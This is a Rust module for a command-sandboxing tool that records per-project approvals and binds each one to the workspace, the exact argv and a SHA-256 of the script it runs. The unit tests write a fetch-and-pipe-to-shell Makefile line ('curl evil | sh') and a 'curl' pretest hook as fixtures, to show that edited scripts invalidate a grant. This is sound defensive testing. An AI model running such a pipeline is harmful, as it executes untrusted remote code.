//! Remembered approvals ("allow for this project"): `$XDG_CONFIG_HOME/cordon/grants.json`
//! (default `~/.config/cordon/grants.json`), outside every workspace, so read-only inside the
//! sandbox (and protected when a writable root holds it: see `approval::protect_config_dir`).
//!
//! A grant is bound to the workspace's canonical path, the exact argv, and, for commands that run
//! a script the workspace defines (`npm test`, `make`, `just`, `./x.sh`, `python x.py`), the
//! SHA-256 of that script's definition: edit the script, and the grant no longer matches.
//!
//! Each such file is read once, through a handle (`openat2`, no symlink on the way, regular files
//! only), and the bytes hashed are the bytes the run gets: they travel with the approval as
//! [`Pinned`] files (see `cordon_sandbox::spec::Pinned`).

use std::fs;
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{DirBuilderExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use cordon_sandbox::files::{lexical, read_pinned};
use cordon_sandbox::spec::Pinned;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// The definition of a script a command runs, pinned by its hash.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Script {
    /// The file that defines it (absolute; it may not exist: then the hash is of "missing").
    pub file: PathBuf,
    /// What in the file: `scripts.test` (package.json), or empty for the whole file.
    pub entry: String,
    pub sha256: String,
}

/// One remembered approval.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Grant {
    pub id: String,
    pub created_ms: u64,
    /// Canonical workspace path.
    pub workspace: PathBuf,
    /// The exact argv approved.
    pub argv: Vec<String>,
    /// Script definitions the approval is bound to.
    #[serde(default)]
    pub scripts: Vec<Script>,
    /// Escalations approved with it (`write:/path`, `domain:host`, `secret:/path`, `env:NAME`).
    #[serde(default)]
    pub escalations: Vec<String>,
    /// `tty` (a person) or `approver`.
    pub approved_by: String,
    #[serde(default)]
    pub reason: String,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct GrantsFile {
    version: u32,
    grants: Vec<Grant>,
}

/// cordon's directory in the user's config dir: `$XDG_CONFIG_HOME/cordon`, else
/// `$HOME/.config/cordon`.
pub fn config_dir() -> Option<PathBuf> {
    if let Some(x) = std::env::var_os("XDG_CONFIG_HOME") {
        let p = PathBuf::from(x);
        if p.is_absolute() {
            return Some(p.join("cordon"));
        }
    }
    let home = PathBuf::from(std::env::var_os("HOME")?);
    home.is_absolute()
        .then(|| home.join(".config").join("cordon"))
}

pub fn path() -> Result<PathBuf, String> {
    config_dir().map(|d| d.join("grants.json")).ok_or_else(|| {
        "grants: no config directory (neither XDG_CONFIG_HOME nor HOME is an absolute path); set HOME".to_string()
    })
}

/// Every grant; none when the file does not exist. A file that cannot be read or parsed is an
/// error naming the file (callers treat it as "no grant", which only means more questions).
pub fn load() -> Result<Vec<Grant>, String> {
    let p = path()?;
    load_from(&p)
}

fn load_from(p: &Path) -> Result<Vec<Grant>, String> {
    let text = match fs::read_to_string(p) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => return Err(format!("{}: {e}", p.display())),
    };
    if text.trim().is_empty() {
        return Ok(Vec::new());
    }
    serde_json::from_str::<GrantsFile>(&text)
        .map(|f| f.grants)
        .map_err(|e| {
            format!(
                "{}: not a valid grants file ({e}); fix it or delete it (cordon grants revoke --all)",
                p.display()
            )
        })
}

/// Read-modify-write under an exclusive lock, written to a temporary file and renamed.
fn update<T>(f: impl FnOnce(&mut Vec<Grant>) -> Result<T, String>) -> Result<T, String> {
    let p = path()?;
    let dir = p.parent().map(Path::to_path_buf).unwrap_or_default();
    fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(&dir)
        .map_err(|e| format!("cannot create {}: {e}", dir.display()))?;
    let lock_path = dir.join("grants.lock");
    let lock = fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .mode(0o600)
        .open(&lock_path)
        .map_err(|e| format!("cannot open {}: {e}", lock_path.display()))?;
    if unsafe { libc::flock(lock.as_raw_fd(), libc::LOCK_EX) } != 0 {
        return Err(format!(
            "cannot lock {}: {}",
            lock_path.display(),
            std::io::Error::last_os_error()
        ));
    }
    let mut grants = load_from(&p)?;
    let out = f(&mut grants)?;
    let file = GrantsFile { version: 1, grants };
    let mut json = serde_json::to_vec_pretty(&file).map_err(|e| e.to_string())?;
    json.push(b'\n');
    let tmp = dir.join(format!("grants.json.tmp.{}", std::process::id()));
    let write = || -> std::io::Result<()> {
        let mut t = fs::OpenOptions::new()
            .create(true)
            .truncate(true)
            .write(true)
            .mode(0o600)
            .open(&tmp)?;
        t.write_all(&json)?;
        t.sync_all()?;
        fs::rename(&tmp, &p)
    };
    write().map_err(|e| {
        let _ = fs::remove_file(&tmp);
        format!("cannot write {}: {e}", p.display())
    })?;
    Ok(out)
}

/// Stores a new grant and returns it with its id.
pub fn add(mut g: Grant) -> Result<Grant, String> {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0);
    g.created_ms = now;
    let mut h = Sha256::new();
    h.update(g.workspace.as_os_str().as_encoded_bytes());
    for a in &g.argv {
        h.update(b"\0");
        h.update(a.as_bytes());
    }
    h.update(now.to_le_bytes());
    h.update(std::process::id().to_le_bytes());
    g.id = format!("g-{}", &hex(&h.finalize())[..10]);
    update(|all| {
        // One grant per (workspace, argv): a new answer replaces the old one.
        all.retain(|o| !(o.workspace == g.workspace && o.argv == g.argv));
        all.push(g.clone());
        Ok(g)
    })
}

/// Removes the grants with these ids (all of them with `all`); returns how many were removed.
/// An id that matches nothing is an error (and nothing is removed).
pub fn revoke(ids: &[String], all: bool) -> Result<usize, String> {
    update(|grants| {
        if all {
            let n = grants.len();
            grants.clear();
            return Ok(n);
        }
        for id in ids {
            if !grants.iter().any(|g| &g.id == id) {
                return Err(format!(
                    "no grant with id {id}; 'cordon grants list' shows the ids"
                ));
            }
        }
        let n = grants.len();
        grants.retain(|g| !ids.contains(&g.id));
        Ok(n - grants.len())
    })
}

/// The grant that covers this command with these escalations, if any: same workspace, same
/// argv, the same script definitions (hashes) as now, and every escalation among those granted.
pub fn find<'a>(
    grants: &'a [Grant],
    workspace: &Path,
    argv: &[String],
    scripts: &[Script],
    escalations: &[String],
) -> Option<&'a Grant> {
    grants.iter().find(|g| {
        g.workspace == workspace
            && g.argv == argv
            && g.scripts == scripts
            && escalations.iter().all(|e| g.escalations.contains(e))
    })
}

pub fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn sha256(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

/// A script definition and the file it is in, as read (None: the file does not exist).
pub type Bound = (Script, Option<Pinned>);

/// Reads `file` once through a handle (below the workspace when it lies there).
fn read_once(file: &Path, ws: &Path) -> Result<Option<Pinned>, String> {
    match read_pinned(ws, file) {
        Ok(Some(f)) => Ok(Some(Pinned {
            path: file.to_path_buf(),
            sha256: sha256(&f.bytes),
            mode: f.mode,
            bytes: f.bytes,
        })),
        Ok(None) => Ok(None),
        Err(e) => Err(format!("cannot read {e}")),
    }
}

/// Hash of a whole file; "missing" is hashed when it does not exist (creating it changes it).
fn file_script(file: PathBuf, ws: &Path) -> Result<Bound, String> {
    let file = lexical(&file);
    let pin = read_once(&file, ws)?;
    let sha256 = match &pin {
        Some(p) => p.sha256.clone(),
        None => sha256(b"missing"),
    };
    Ok((
        Script {
            file,
            entry: String::new(),
            sha256,
        },
        pin,
    ))
}

/// The nearest `names` file from `cwd` up to `workspace` (inclusive), else `cwd/names[0]`.
fn nearest(cwd: &Path, workspace: &Path, names: &[&str]) -> PathBuf {
    let mut d = Some(cwd);
    while let Some(dir) = d {
        for n in names {
            let p = dir.join(n);
            if p.is_file() {
                return p;
            }
        }
        if dir == workspace || !dir.starts_with(workspace) {
            break;
        }
        d = dir.parent();
    }
    cwd.join(names[0])
}

fn base(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

const SCRIPT_RUNNERS: &[&str] = &["npm", "pnpm", "yarn", "bun", "make", "gmake", "just"];
/// Shells that take `-c STRING`.
pub const INTERPRETER_SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh"];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "python", "python3", "node", "ruby", "perl", "php",
];

/// Script definitions that `argv` (run in `cwd`) executes and that the workspace controls.
/// `Ok(vec![])`: nothing to pin (the argv alone identifies what runs). `Err`: a script runner
/// whose script cannot be pinned (e.g. options cordon does not follow): no project grant then.
#[cfg(test)]
pub fn scripts_for(argv: &[String], cwd: &Path, workspace: &Path) -> Result<Vec<Script>, String> {
    Ok(bound_for(argv, cwd, workspace)?
        .into_iter()
        .map(|(s, _)| s)
        .collect())
}

/// [`scripts_for`], with each file's bytes as read (what a run under the approval gets).
pub fn bound_for(argv: &[String], cwd: &Path, workspace: &Path) -> Result<Vec<Bound>, String> {
    let Some(program) = argv.first() else {
        return Ok(Vec::new());
    };
    let name = base(program);
    let args = &argv[1..];
    // A program inside the workspace is itself a script (also when a link outside leads there:
    // then it cannot be read without following the link, and cannot be pinned).
    if program.contains('/') {
        let p = lexical(&cwd.join(program));
        let canon = fs::canonicalize(&p).unwrap_or_else(|_| p.clone());
        if p.starts_with(workspace) || canon.starts_with(workspace) {
            return Ok(vec![file_script(p, workspace)?]);
        }
    }
    if SCRIPT_RUNNERS.contains(&name) {
        return runner_scripts(name, args, cwd, workspace).map(|s| vec![s]);
    }
    if INTERPRETERS.contains(&name) {
        // The first operand is the script file, unless code is given inline (-c, -e, -m, ...).
        for (i, a) in args.iter().enumerate() {
            if a == "--" {
                return match args.get(i + 1) {
                    Some(f) => Ok(vec![file_script(cwd.join(f), workspace)?]),
                    None => Ok(Vec::new()),
                };
            }
            if a.starts_with('-') {
                let inline: &[&str] = match name {
                    "python" | "python3" => &["-c", "-m"],
                    "node" => &["-e", "-p", "--eval", "--print"],
                    "ruby" | "perl" => &["-e", "-E"],
                    "php" => &["-r"],
                    _ => &["-c"],
                };
                if inline.contains(&a.as_str()) {
                    return Ok(Vec::new());
                }
                continue;
            }
            return Ok(vec![file_script(cwd.join(a), workspace)?]);
        }
    }
    Ok(Vec::new())
}

fn runner_scripts(name: &str, args: &[String], cwd: &Path, ws: &Path) -> Result<Bound, String> {
    let cant = |why: &str| {
        Err(format!(
            "{name}: {why}; cordon cannot tell which script it runs, so it can be allowed once only"
        ))
    };
    match name {
        "make" | "gmake" | "just" => {
            let mut files = Vec::new();
            let mut dir = cwd.to_path_buf();
            let mut it = args.iter();
            while let Some(a) = it.next() {
                let file_flag = if name == "just" {
                    matches!(a.as_str(), "-f" | "--justfile")
                } else {
                    matches!(a.as_str(), "-f" | "--file" | "--makefile")
                };
                if file_flag {
                    match it.next() {
                        Some(f) => files.push(f.clone()),
                        None => return cant("option without a value"),
                    }
                } else if let Some(f) = a
                    .strip_prefix("--file=")
                    .or_else(|| a.strip_prefix("--makefile="))
                    .or_else(|| a.strip_prefix("--justfile="))
                {
                    files.push(f.to_string());
                } else if name != "just" && a.starts_with("-f") && a.len() > 2 {
                    files.push(a[2..].to_string());
                } else if a == "-C" || a == "--directory" || a == "-d" || a == "--working-directory"
                {
                    match it.next() {
                        Some(d) if name != "just" => dir = dir.join(d),
                        _ => return cant("a directory option"),
                    }
                } else if a.starts_with("--directory=") || (a.starts_with("-C") && a.len() > 2) {
                    return cant("a directory option");
                }
            }
            let file = match files.as_slice() {
                [] if name == "just" => {
                    nearest(&dir, ws, &["justfile", "Justfile", "JUSTFILE", ".justfile"])
                }
                [] => {
                    let found = ["GNUmakefile", "makefile", "Makefile"]
                        .iter()
                        .map(|n| dir.join(n))
                        .find(|p| p.is_file());
                    found.unwrap_or_else(|| dir.join("Makefile"))
                }
                [one] => dir.join(one),
                _ => return cant("several -f files"),
            };
            file_script(file, ws)
        }
        _ => {
            // npm, pnpm, yarn, bun: a named script pins its package.json entry (with its pre/post
            // hooks); anything else (install, ci, ...) pins the whole package.json, whose
            // lifecycle scripts it may run.
            let mut rest = args.iter().skip_while(|a| a.starts_with('-'));
            if args.first().is_some_and(|a| a.starts_with('-')) {
                return cant("options before the subcommand");
            }
            let sub = rest.next().map(String::as_str);
            let pkg = lexical(&nearest(cwd, ws, &["package.json"]));
            // Read once: the entry hashed below and the file the run gets are these bytes.
            let pin = read_once(&pkg, ws)?;
            let scripts_of =
                || -> Result<Option<serde_json::Map<String, serde_json::Value>>, String> {
                    match &pin {
                        Some(p) => {
                            let v: serde_json::Value = serde_json::from_slice(&p.bytes)
                                .map_err(|e| format!("{}: {e}", pkg.display()))?;
                            Ok(Some(
                                v.get("scripts")
                                    .and_then(|s| s.as_object())
                                    .cloned()
                                    .unwrap_or_default(),
                            ))
                        }
                        None => Ok(None),
                    }
                };
            let script_name: Option<String> = match (name, sub) {
                (_, Some("run" | "run-script" | "rum" | "urn")) => rest.next().cloned(),
                ("npm" | "pnpm" | "yarn", Some("test" | "t" | "tst")) => Some("test".into()),
                ("npm" | "pnpm" | "yarn", Some(s @ ("start" | "stop" | "restart"))) => {
                    Some(s.to_string())
                }
                ("yarn" | "pnpm", Some(s)) => {
                    // `yarn build` runs the script `build` when package.json defines it.
                    match scripts_of()? {
                        Some(m) if m.contains_key(s) => Some(s.to_string()),
                        _ => None,
                    }
                }
                _ => None,
            };
            match script_name {
                Some(s) => {
                    let m = scripts_of()?.unwrap_or_default();
                    let defs: Vec<serde_json::Value> =
                        [format!("pre{s}"), s.clone(), format!("post{s}")]
                            .iter()
                            .map(|k| m.get(k).cloned().unwrap_or(serde_json::Value::Null))
                            .collect();
                    let bytes = serde_json::to_vec(&defs).map_err(|e| e.to_string())?;
                    Ok((
                        Script {
                            file: pkg,
                            entry: format!("scripts.{s}"),
                            sha256: sha256(&bytes),
                        },
                        pin,
                    ))
                }
                // The whole file, as read above.
                None => Ok((
                    Script {
                        file: pkg,
                        entry: String::new(),
                        sha256: match &pin {
                            Some(p) => p.sha256.clone(),
                            None => sha256(b"missing"),
                        },
                    },
                    pin,
                )),
            }
        }
    }
}

/// Reads at most `max` bytes (used for answers from a terminal or an approver).
pub fn read_capped(r: &mut impl Read, max: usize) -> Vec<u8> {
    let mut v = Vec::new();
    let _ = r.take(max as u64).read_to_end(&mut v);
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sv(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn npm_test_pins_the_script_entry_only() {
        let d = tempfile::tempdir().unwrap();
        let ws = d.path();
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo one","build":"x"}}"#,
        )
        .unwrap();
        let a = scripts_for(&sv(&["npm", "test"]), ws, ws).unwrap();
        assert_eq!(a.len(), 1);
        assert_eq!(a[0].entry, "scripts.test");
        // Another script changes: same hash.
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo one","build":"y"}}"#,
        )
        .unwrap();
        assert_eq!(scripts_for(&sv(&["npm", "test"]), ws, ws).unwrap(), a);
        // The test script changes, or a pretest hook appears: another hash.
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo two"}}"#,
        )
        .unwrap();
        assert_ne!(scripts_for(&sv(&["npm", "test"]), ws, ws).unwrap(), a);
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo one","pretest":"curl x"}}"#,
        )
        .unwrap();
        assert_ne!(
            scripts_for(&sv(&["npm", "run", "test"]), ws, ws).unwrap(),
            a
        );
        // `npm run test` and `npm test` pin the same thing.
        fs::write(
            ws.join("package.json"),
            r#"{"scripts":{"test":"echo one"}}"#,
        )
        .unwrap();
        assert_eq!(
            scripts_for(&sv(&["npm", "run", "test"]), ws, ws).unwrap(),
            a
        );
        // Options before the subcommand: cannot be pinned.
        assert!(scripts_for(&sv(&["npm", "--prefix", "x", "test"]), ws, ws).is_err());
        // npm install pins the whole file.
        let i = scripts_for(&sv(&["npm", "install"]), ws, ws).unwrap();
        assert_eq!(i[0].entry, "");
    }

    #[test]
    fn make_pins_the_makefile_and_interpreters_their_file() {
        let d = tempfile::tempdir().unwrap();
        let ws = d.path();
        let none = scripts_for(&sv(&["make", "all"]), ws, ws).unwrap();
        fs::write(ws.join("Makefile"), "all:\n\ttrue\n").unwrap();
        let one = scripts_for(&sv(&["make", "all"]), ws, ws).unwrap();
        assert_ne!(none, one, "creating the Makefile changes the pin");
        fs::write(ws.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
        assert_ne!(scripts_for(&sv(&["make", "all"]), ws, ws).unwrap(), one);
        assert!(scripts_for(&sv(&["make", "-f", "a", "-f", "b"]), ws, ws).is_err());
        fs::write(ws.join("x.sh"), "echo 1\n").unwrap();
        let s = scripts_for(&sv(&["bash", "-e", "x.sh"]), ws, ws).unwrap();
        assert_eq!(s[0].file, ws.join("x.sh"));
        assert_eq!(scripts_for(&sv(&["./x.sh"]), ws, ws).unwrap().len(), 1);
        assert!(scripts_for(&sv(&["bash", "-c", "echo"]), ws, ws)
            .unwrap()
            .is_empty());
        assert!(scripts_for(&sv(&["ls", "-l"]), ws, ws).unwrap().is_empty());
    }

    #[test]
    fn find_needs_every_escalation_and_the_same_scripts() {
        let g = Grant {
            id: "g-1".into(),
            created_ms: 0,
            workspace: "/w".into(),
            argv: sv(&["npm", "test"]),
            scripts: vec![],
            escalations: sv(&["write:/a"]),
            approved_by: "tty".into(),
            reason: String::new(),
        };
        let all = vec![g];
        let w = Path::new("/w");
        let argv = sv(&["npm", "test"]);
        assert!(find(&all, w, &argv, &[], &sv(&["write:/a"])).is_some());
        assert!(find(&all, w, &argv, &[], &[]).is_some());
        assert!(find(&all, w, &argv, &[], &sv(&["write:/b"])).is_none());
        assert!(find(&all, Path::new("/v"), &argv, &[], &[]).is_none());
        assert!(find(&all, w, &sv(&["npm", "test", "x"]), &[], &[]).is_none());
        let s = Script {
            file: "/w/package.json".into(),
            entry: "scripts.test".into(),
            sha256: "00".into(),
        };
        assert!(find(&all, w, &argv, &[s], &[]).is_none());
    }
}
